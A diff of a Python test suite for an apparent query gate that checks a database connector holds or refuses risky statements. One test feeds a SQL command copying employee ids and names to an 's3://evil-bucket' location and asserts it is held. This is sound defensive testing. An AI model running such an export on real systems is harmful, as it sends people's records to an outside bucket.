@@ -142,7 +142,7 @@ def sent_on(gate):
 
 def refused(gate):
     """The refused statements that were recorded."""
-    return [e for e in gate.recorded() if e["verdict"].startswith("refused") and "query-request" in e["request"]]
+    return [e for e in gate.recorded() if e["verdict"] != "allow" and "query-request" in e["request"]]
 
 
 def test_what_is_allowed_is_answered_in_the_connectors_own_types(gate, client):
@@ -185,7 +185,7 @@ def test_a_denial_is_read_once_and_nothing_goes_on(gate, client):
 
 def test_a_held_export_says_who_decides_and_nothing_goes_on(gate, client):
     before, known = sent_on(gate), len(refused(gate))
-    (said,) = ask(gate, client, "copy into 's3://evil-bucket/x' from (select id, name from emp)")
+    (said,) = ask(gate, client, "copy into 's3://evil-bucket/x' from (select id, name from emp)", person="grace")
     assert said.count("Data is leaving for a bucket that we do not own.") == 1, said
     assert (sent_on(gate), len(refused(gate))) == (before, known + 1)
 
